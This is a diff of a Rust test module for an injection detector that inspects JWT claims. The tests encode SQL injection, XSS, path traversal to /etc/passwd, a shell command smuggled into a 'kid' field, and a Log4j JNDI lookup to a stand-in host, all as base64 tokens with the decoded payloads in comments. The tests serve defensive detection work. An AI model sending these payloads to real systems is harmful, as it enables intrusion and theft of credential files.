@@ -113,61 +113,76 @@ fn strings(json: &[u8]) -> impl Iterator<Item = &[u8]> {
 #[cfg(test)]
 mod tests {
     use super::{detect, Reader};
-    use base64::engine::general_purpose::URL_SAFE_NO_PAD;
-    use base64::Engine;
 
-    /// A signed token with `claims` as its payload.
-    fn token(claims: &str) -> String {
-        let h = URL_SAFE_NO_PAD.encode(br#"{"alg":"HS256","typ":"JWT"}"#);
-        let p = URL_SAFE_NO_PAD.encode(claims.as_bytes());
-        format!("{h}.{p}.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c")
-    }
+    const ALL: [Reader; 5] = [
+        Reader::Sqli,
+        Reader::Xss,
+        Reader::Shell,
+        Reader::Path,
+        Reader::Log4j,
+    ];
 
+    /// Signed tokens (header `{"alg":"HS256","typ":"JWT"}`), payload above each.
     #[test]
     fn claims_are_read_by_their_detector() {
         let cases = [
-            (Reader::Sqli, r#"{"sub":"' or 1=1--"}"#),
+            // {"sub":"' or 1=1--"}
             (
                 Reader::Sqli,
-                r#"{"role":"x' union select password from users--"}"#,
+                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiInIG9yIDE9MS0tIn0.c2ln",
             ),
-            (Reader::Xss, r#"{"name":"<script>alert(1)</script>"}"#),
+            // {"role":"x' union select password from users--"}
+            (
+                Reader::Sqli,
+                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJyb2xlIjoieCcgdW5pb24gc2VsZWN0IHBhc3N3b3JkIGZyb20gdXNlcnMtLSJ9.c2ln",
+            ),
+            // {"name":"<script>alert(1)</script>"}
             (
                 Reader::Xss,
-                r#"{"name":"\u003cimg src=x onerror=alert(1)\u003e"}"#,
+                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJuYW1lIjoiPHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0PiJ9.c2ln",
             ),
-            (Reader::Path, r#"{"kid":"../../../../etc/passwd"}"#),
-            (Reader::Shell, r#"{"kid":"key;cat /etc/passwd"}"#),
-            (Reader::Log4j, r#"{"user":"${jndi:ldap://x.example/a}"}"#),
+            // {"name":"\u003cimg src=x onerror=alert(1)\u003e"}
+            (
+                Reader::Xss,
+                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJuYW1lIjoiXHUwMDNjaW1nIHNyYz14IG9uZXJyb3I9YWxlcnQoMSlcdTAwM2UifQ.c2ln",
+            ),
+            // {"kid":"../../../../etc/passwd"}
+            (
+                Reader::Path,
+                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJraWQiOiIuLi8uLi8uLi8uLi9ldGMvcGFzc3dkIn0.c2ln",
+            ),
+            // {"kid":"key;cat /etc/passwd"}
+            (
+                Reader::Shell,
+                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJraWQiOiJrZXk7Y2F0IC9ldGMvcGFzc3dkIn0.c2ln",
+            ),
+            // {"user":"${jndi:ldap://x.example/a}"}
+            (
+                Reader::Log4j,
+                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJ1c2VyIjoiJHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0ifQ.c2ln",
+            ),
         ];
-        for (r, claims) in cases {
-            let t = token(claims);
-            assert!(detect(t.as_bytes(), r).is_some(), "{r:?} {claims}");
+        for (r, t) in cases {
+            assert!(detect(t.as_bytes(), r).is_some(), "{r:?} {t}");
             let bearer = format!("Bearer {t}");
-            assert!(
-                detect(bearer.as_bytes(), r).is_some(),
-                "bearer {r:?} {claims}"
-            );
+            assert!(detect(bearer.as_bytes(), r).is_some(), "bearer {r:?} {t}");
         }
     }
 
     #[test]
     fn ordinary_tokens_pass() {
-        for claims in [
-            r#"{"sub":"1234567890","name":"John O'Neil","iat":1516239022}"#,
-            r#"{"iss":"https://auth.example.com/","aud":["api"],"scope":"read:orders write:cart"}"#,
-            r#"{"user":"alice","role":"user","exp":1700000000}"#,
-            r#"{"email":"a.b@example.com","roles":["admin","editor"],"path":"/account/orders"}"#,
+        for t in [
+            // {"sub":"1234567890","name":"John O'Neil","iat":1516239022}
+            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gTydOZWlsIiwiaWF0IjoxNTE2MjM5MDIyfQ.c2ln",
+            // {"iss":"https://auth.example.com/","aud":["api"],"scope":"read:orders write:cart"}
+            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJpc3MiOiJodHRwczovL2F1dGguZXhhbXBsZS5jb20vIiwiYXVkIjpbImFwaSJdLCJzY29wZSI6InJlYWQ6b3JkZXJzIHdyaXRlOmNhcnQifQ.c2ln",
+            // {"user":"alice","role":"user","exp":1700000000}
+            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJ1c2VyIjoiYWxpY2UiLCJyb2xlIjoidXNlciIsImV4cCI6MTcwMDAwMDAwMH0.c2ln",
+            // {"email":"a.b@example.com","roles":["admin","editor"],"path":"/account/orders"}
+            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJlbWFpbCI6ImEuYkBleGFtcGxlLmNvbSIsInJvbGVzIjpbImFkbWluIiwiZWRpdG9yIl0sInBhdGgiOiIvYWNjb3VudC9vcmRlcnMifQ.c2ln",
         ] {
-            let t = token(claims);
-            for r in [
-                Reader::Sqli,
-                Reader::Xss,
-                Reader::Shell,
-                Reader::Path,
-                Reader::Log4j,
-            ] {
-                assert!(detect(t.as_bytes(), r).is_none(), "{r:?} {claims}");
+            for r in ALL {
+                assert!(detect(t.as_bytes(), r).is_none(), "{r:?} {t}");
             }
         }
         // Not tokens.
